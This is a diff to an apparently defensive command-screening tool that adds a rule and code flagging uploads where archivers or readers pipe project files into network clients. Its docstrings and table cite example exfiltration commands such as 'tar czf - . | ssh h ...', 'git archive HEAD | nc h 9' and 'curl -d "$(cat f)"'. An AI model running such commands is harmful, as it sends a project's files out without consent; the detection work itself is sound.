@@ -13,7 +13,8 @@ The egress gate judges *where* a command connects; these rules judge *what* it s
 | exfiltration  | ``git push --all|--mirror`` to a remote the command adds or    | deny    |
 |               | names by URL                                                   |         |
 | upload        | a network client uploads a project file, a file only known at  | ask     |
-|               | run time, or its standard input                                |         |
+|               | run time, or its standard input; or is piped what an archiver  |         |
+|               | or reader packs (``tar czf - . | ssh h 'cat > x'``)            |         |
 | upload        | ``git push`` to a remote the command adds or names by URL      | ask     |
 | upload        | a request carrying a command's output (``curl -d "$(cat f)"``, | ask     |
 |               | ``-H "X: $(…)"``), data posted to a chat webhook or paste      |         |
@@ -389,7 +390,17 @@ def sending_finding(analysis: CommandAnalysis, cwd: str | None,
     if mailers and analysis.input_sources:
         return Finding(ASK, "upload", f"{mailers[0]!r} sends the file "
                        f"{analysis.input_sources[0]!r}")
+    piped = [s.text for s in senders if s.stdin == "pipe"]
+    packer = next((s.text for s in analysis.segments if s.command in _PACKERS), None)
+    if piped and packer is not None:
+        return Finding(ASK, "upload", f"{piped[0]!r} is sent files packed by {packer!r}")
     return None
+
+
+_PACKERS = frozenset({"tar", "bsdtar", "zip", "cpio", "pax", "7z", "7za", "git", "cat",
+                      "base64", "xxd", "gzip", "bzip2", "xz", "zstd", "dd", "find"})
+"""Commands whose output piped into a network client is the project's files (``tar czf - .
+| ssh h 'cat > x.tgz'``, ``git archive HEAD | nc h 9``: an upload of the tree)."""
 
 
 _PUSH_ALL = frozenset({"--all", "--mirror"})
